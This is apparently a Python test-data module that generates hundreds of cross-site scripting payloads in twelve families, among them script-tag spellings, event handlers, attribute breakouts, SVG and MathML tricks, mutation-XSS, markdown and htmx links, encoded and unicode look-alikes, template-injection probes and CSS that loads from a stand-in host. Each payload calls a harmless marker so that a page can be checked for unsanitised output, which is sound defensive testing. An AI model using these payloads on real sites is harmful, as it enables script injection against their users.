"""Words that would come alive in a page that shows them without care: a dozen families, each in many spellings. Every one of them
calls, names or loads `zqx7`, so that a page can be searched for what is left of it."""

from collections.abc import Iterator

MARK = "zqx7"
CALL = f"{MARK}()"
EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter")
BREAKS = ("", '">', "'>", "</p>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "\u2028", "`>")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "vbscript:",
)
TRICKS = (
    "javascript&colon;",
    "javascript&#58;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "jav&#x09;ascript:",
    "jav&Tab;ascript:",
)


def scripts() -> Iterator[str]:
    """Script elements in odd spellings, after anything that could close what they stand in."""
    for spelling in ("script", "ScRiPt", "script/x", "script\t", "script\x0c"):
        yield from (f"{end}<{spelling}>{CALL}</script>" for end in BREAKS)


def handlers() -> Iterator[str]:
    """Elements that run something by themselves or when touched."""
    for tag in ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "a href=#"):
        yield from (f"<{tag} {event}={CALL}>" for event in EVENTS)


def out_of_attributes() -> Iterator[str]:
    """Ways out of an attribute."""
    for quote in ('"', "'", "&quot;", "&#34;", '\\"', "`", "\u02ba", "\uff02"):
        yield from (f"x{quote} {event}={CALL} y={quote}" for event in EVENTS[:4])


def pictures() -> Iterator[str]:
    """SVG and MathML, where other rules hold."""
    yield f"<svg><script>{CALL}</script></svg>"
    yield f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>"
    yield f"<svg><animate attributeName=href values=javascript:{CALL} /></svg>"
    yield f"<svg><set attributeName=onmouseover to={CALL}></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>"
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>"
    yield f"<math href='javascript:{CALL}'>x</math>"


def changed_by_parsing() -> Iterator[str]:
    """Harmless as text, alive after a browser has read it and written it again."""
    for shell in ("noscript", "style", "xmp", "noembed", "iframe", "title", "textarea", "template", "select", "table"):
        yield f"<{shell}><p title='</{shell}><img src=x onerror={CALL}>'>"
        yield f"<svg></p><{shell}><a id='</{shell}><img src=1 onerror={CALL}>'>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>"
    yield f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={CALL} src>'>"


def markdown() -> Iterator[str]:
    """Links and pictures in members' own markup."""
    for scheme in (*SCHEMES, *TRICKS, "data:text/html,", "file:///", "//evil.test/"):
        yield f"[{MARK} here]({scheme}{CALL})"
        yield f"[{MARK}]: {scheme}{CALL}\n\n[{MARK}]"
        yield f"<{scheme}{CALL}>"
        yield f"![{MARK}]({scheme}{CALL})"
    yield f'[x](http://a.test "{MARK}" onclick={CALL})'
    yield f"[x](http://a.test/'onclick={CALL}//)"
    yield f'```html" onclick={CALL}\n<b>\n```'
    yield f"[<img src=x onerror={CALL}>](http://a.test)"


def htmx() -> Iterator[str]:
    """Attributes that htmx would obey."""
    for name in (
        "hx-get",
        "hx-post",
        "hx-on:click",
        "hx-on--load",
        "hx-vals",
        "hx-trigger",
        "hx-include",
        "data-hx-get",
    ):
        yield f"<div {name}='js:{CALL}' {name}-x='{MARK}'>x</div>"
        yield f'x" {name}="/{MARK}'


def elsewhere() -> Iterator[str]:
    """What loads, frames, sends or refreshes."""
    for tag in (
        "iframe src",
        "object data",
        "embed src",
        "base href",
        "link rel=stylesheet href",
        "form action",
        "img src",
    ):
        yield f"<{tag}=javascript:{CALL}>"
        yield f"<{tag}='data:text/html,<script>{CALL}</script>'>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>"
    yield f"<button formaction=javascript:{CALL}>x</button>"
    yield f"<iframe srcdoc='&lt;script&gt;{CALL}&lt;/script&gt;'></iframe>"


def unicode() -> Iterator[str]:
    """Look-alikes, widths, direction marks and bytes that could be normalised into something alive."""
    for lower, upper in (
        ("\uff1c", "\uff1e"),
        ("\u2039", "\u203a"),
        ("\ufe64", "\ufe65"),
        ("\u3008", "\u3009"),
        ("+ADw-", "+AD4-"),
    ):
        yield f"{lower}script{upper}{CALL}{lower}/script{upper}"
        yield f"{lower}img src=x onerror={CALL}{upper}"
    for hidden in ("\u200b", "\u202e", "\u2066", "\ufeff", "\u00ad", "\u0130", "\u017f", "\ufffd"):
        yield f"<{hidden}script>{CALL}</{hidden}script>"
        yield f"<scr{hidden}ipt>{CALL}</scr{hidden}ipt>"


def entities() -> Iterator[str]:
    """Escaped once, escaped twice, and escaped wrongly."""
    for lower in ("&lt;", "&LT", "&#60;", "&#x3c;", "&#0000060", "%3C", "\\x3c", "\\u003c", "&amp;lt;"):
        yield f"{lower}script>{CALL}{lower}/script>"
        yield f"{lower}img src=x onerror={CALL}>"


def comments_and_templates() -> Iterator[str]:
    """Comments, processing instructions, and templates that something might fill in."""
    for opener in ("<!--", "<!-->", "<!--->", "<![CDATA[", "<?xml ", "<%", "<!"):
        yield f"{opener}<img src=x onerror={CALL}>-->"
    for left, right in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{#", "#}")):
        yield f"{left} {CALL} {right}"
        yield f"{left} ''.__class__.__mro__ {right}{MARK}"


def styles() -> Iterator[str]:
    """Style that fetches or runs."""
    for rule in (
        f"url(javascript:{CALL})",
        f"expression({CALL})",
        f"url(//evil.test/{MARK})",
        f"x;-moz-binding:url(//{MARK})",
    ):
        yield f"<style>body{{background:{rule}}}</style>"
        yield f"<p style='background:{rule}'>x</p>"
        yield f'x" style="background:{rule}'


FAMILIES = (
    scripts, handlers, out_of_attributes, pictures, changed_by_parsing, markdown, htmx, elsewhere, unicode, entities,
    comments_and_templates, styles,
)  # fmt: skip
PAYLOADS = [payload for family in FAMILIES for payload in family()]
SAMPLE = [payload for family in FAMILIES for payload in list(family())[:4]]
"""Four of each family, for what is slow."""
